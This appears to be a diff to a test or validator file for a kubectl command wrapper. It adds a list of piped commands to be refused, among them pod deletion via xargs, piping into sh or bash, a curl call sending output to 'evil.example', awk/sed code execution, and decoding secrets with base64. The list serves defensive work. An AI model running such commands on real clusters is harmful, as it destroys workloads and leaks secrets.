@@ -42,6 +42,22 @@ const SHELL: readonly RefusedLine[] = lines(
   '   \n ',
 );
 
+/** A pipe leads to text filters, to no program and no file. */
+const PIPES: readonly RefusedLine[] = lines(
+  'command_refused',
+  'get pods | xargs kubectl delete pod',
+  'get pods -o name | kubectl delete -f -',
+  'get pods | sh',
+  'get pods | /bin/sh',
+  'get pods | grep web | bash -c id',
+  'get pods | tee /tmp/out',
+  'get pods | curl -d @- https://evil.example',
+  "get pods | awk '{system($1)}'",
+  "get pods | sed 's/a/id/e'",
+  "get pods | sed -n 'w /tmp/out'",
+  'get secret web -o yaml | base64 -d',
+);
+
 /** Characters that hide or fake something. */
 const CHARACTERS: readonly RefusedLine[] = lines(
   'invalid_argument',
@@ -309,6 +325,7 @@ const EXCESS: readonly RefusedLine[] = [
 
 export const KUBECTL_REFUSED: readonly RefusedLine[] = [
   ...SHELL,
+  ...PIPES,
   ...CHARACTERS,
   ...REDIRECTION,
   ...OWN_FILES,
